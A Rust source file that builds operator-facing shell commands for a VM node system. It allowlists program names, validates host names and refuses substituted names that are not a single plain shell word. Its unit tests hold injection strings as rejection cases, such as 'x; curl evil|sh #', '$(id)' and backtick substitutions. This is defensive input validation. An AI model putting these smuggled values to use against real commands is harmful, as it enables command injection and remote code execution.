// This Source Code Form is subject to the terms of the Mozilla Public
// License, v. 2.0. If a copy of the MPL was not distributed with this
// file, You can obtain one at https://mozilla.org/MPL/2.0/.

//! A command that people are shown, and type: built of our own words, and of names that cannot be anything else. Pure.

use std::fmt;

/// The programs of a node that a command may name.
const PROGRAMS: [&str; 8] = [
    "vminfod",
    "net-agent",
    "vm-agent",
    "kvmd",
    "migration-agent",
    "fleet-agent",
    "console",
    "hub",
];
/// The longest name of a program, a host or an object.
const LONGEST: usize = 253;

/// Returns the program of this name, if it is one of ours.
pub fn program(name: &str) -> Option<&'static str> {
    PROGRAMS.into_iter().find(|it| *it == name)
}

/// Returns true for what a host may be called: it stands in commands and links.
pub fn is_host_name(text: &str) -> bool {
    let is_good = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-');
    is_plain(text) && text.bytes().all(is_good)
}

/// Returns true for a word that a shell takes as it is, and a program as no option.
fn is_word(text: &str) -> bool {
    let is_good = |byte: u8| byte.is_ascii_alphanumeric() || b".-_:/@".contains(&byte);
    is_plain(text) && text.bytes().all(is_good)
}

fn is_plain(text: &str) -> bool {
    !text.is_empty() && text.len() <= LONGEST && !text.starts_with(['-', '.'])
}

/// A command to show.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShownCommand(String);

impl ShownCommand {
    /// Returns a command of our own words.
    pub fn of(words: &'static str) -> ShownCommand {
        ShownCommand::about(words, &[])
    }

    /// Returns one about what is named: pairs of a word in capitals, and the name. A name that is not one word of a
    /// shell is not written: its word stays.
    pub fn about(words: &'static str, names: &[(&str, &str)]) -> ShownCommand {
        let fill = |word: &'static str| {
            let named = names.iter().find(|(placeholder, _)| *placeholder == word);
            named
                .map(|(_, name)| *name)
                .filter(|name| is_word(name))
                .map_or(word, |name| name)
                .to_owned()
        };
        ShownCommand(words.split(' ').map(fill).collect::<Vec<_>>().join(" "))
    }
}

impl fmt::Display for ShownCommand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_is_one_word_of_a_shell_or_is_not_written() {
        let of = |name: &str| ShownCommand::about("vmadm stop VM -F", &[("VM", name)]).to_string();
        assert_eq!(of("0b4a4a3e-8b7c"), "vmadm stop 0b4a4a3e-8b7c -F");
        for odd in ["x; curl evil|sh #", "$(id)", "`id`", "a b", "a\nb", "-F", "", "ä", "'x'", "x&"]
        {
            assert_eq!(of(odd), "vmadm stop VM -F", "{odd}");
        }
        assert_eq!(of(&"x".repeat(300)), "vmadm stop VM -F");
    }

    #[test]
    fn hosts_and_programs_are_called_so() {
        assert!(is_host_name("cn-7.example.com"));
        for odd in ["", "-x", ".x", "a/b", "a b", "a\u{202e}b", "a@b", "javascript:x", "../x"] {
            assert!(!is_host_name(odd), "{odd}");
        }
        assert_eq!(program("net-agent"), Some("net-agent"));
        assert_eq!(program("x; curl evil|sh #"), None);
    }
}
